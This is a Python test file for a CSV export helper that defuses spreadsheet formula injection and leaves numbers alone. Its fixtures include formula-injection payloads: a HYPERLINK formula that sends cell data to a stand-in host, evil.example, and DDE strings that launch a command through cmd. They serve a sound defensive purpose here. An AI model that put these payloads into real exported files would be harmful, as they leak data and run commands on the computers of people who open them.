"""CSV cells that a spreadsheet would run as formulas are defused; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from mercato.core.csv_export import csv_text, spreadsheet_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_a_text_marker(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-12, -0.5, Decimal("-1234.50"), "-12.50", "+3.1%", "-1,234.56", "-1e-3", 0, None]
)
def test_numbers_and_numeric_text_are_untouched(value: object) -> None:
    assert spreadsheet_cell(value) == value


def test_plain_text_is_untouched() -> None:
    assert spreadsheet_cell("Summer Sale 2026") == "Summer Sale 2026"
    assert spreadsheet_cell("a=b") == "a=b"


def test_a_whole_document_round_trips_with_defused_cells() -> None:
    text = csv_text(
        ["campaign", "revenue", "delta"],
        [['=HYPERLINK("http://evil.example","x")', Decimal("10.00"), Decimal("-2.50")]],
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["campaign", "revenue", "delta"],
        ['\'=HYPERLINK("http://evil.example","x")', "10.00", "-2.50"],
    ]
